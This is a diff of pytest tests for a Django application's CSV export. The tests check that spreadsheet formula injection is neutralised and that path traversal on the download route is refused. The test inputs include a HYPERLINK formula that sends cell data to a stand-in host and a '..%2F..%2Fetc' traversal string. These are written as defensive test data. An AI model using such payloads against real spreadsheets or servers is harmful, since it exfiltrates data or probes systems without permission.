@@ -4,16 +4,20 @@ constant memory and queries, and large exports built by a Celery task then downl
 import csv
 import io
 import tracemalloc
+from decimal import Decimal
 
 import pytest
 from django.contrib.messages import get_messages
 from django.db import connection
+from django.db.models import F, Value
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+from applications.models import Application
 from applications.models import ApplicationStatus as S
 from dataide.audit.models import AuditEvent
-from tests.factories import StaffUserFactory
+from dataide.exports import Column, csv_lines
+from tests.factories import OrganismeFactory, StaffUserFactory
 from tests.helpers import login_staff
 from tests.staff.factories import bulk_applications, signed_in_team, submitted_application
 from tests.trainings.factories import WebinarAttendanceFactory
@@ -123,3 +127,23 @@ def test_large_exports_run_as_a_task_and_are_downloaded_when_ready(client, setti
     login_staff(client, StaffUserFactory())
     assert client.get(download).status_code == 302
     assert client.get(reverse("admin:applications_application_export_download", args=["..%2F..%2Fetc"])).status_code == 404
+
+
+@pytest.mark.parametrize("typed", [
+    '=HYPERLINK("https://exemple.test/vol?d="&A1;"Cliquez ici")', "+1 514 555-0199", "-2+3", "@SUM(A1:A9)",
+    "\t=1+1", "\r=1+1", "  =1+1",
+])
+def test_a_text_that_would_run_as_a_formula_is_exported_as_text(client, typed):
+    signed_in_team(client)
+    submitted_application("AMO-2026-0001", title=typed, organisme=OrganismeFactory(legal_name=typed))
+    row = dict(zip(APPLICATION_HEADERS, read_csv(streamed(client.get(EXPORT)))[1], strict=True))
+    assert row["Titre du projet"] == "'" + typed and row["Organisme"] == "'" + typed
+    assert row["Montant demandé"] == "4000,00"  # numbers stay numbers
+
+
+def test_negative_numbers_stay_numbers_and_ordinary_text_is_untouched():
+    application = submitted_application("AMO-2026-0001", title="Équipement – 2e phase", amount_requested=Decimal("250"))
+    queryset = Application.objects.filter(pk=application.pk).annotate(balance=-F("amount_requested"), gap=Value(-3))
+    columns = [Column("Titre", "title"), Column("Solde", "balance"), Column("Écart", "gap")]
+    rows = read_csv("".join(csv_lines(queryset, columns)).encode())
+    assert rows[1] == ["Équipement – 2e phase", "-250,00", "-3"]
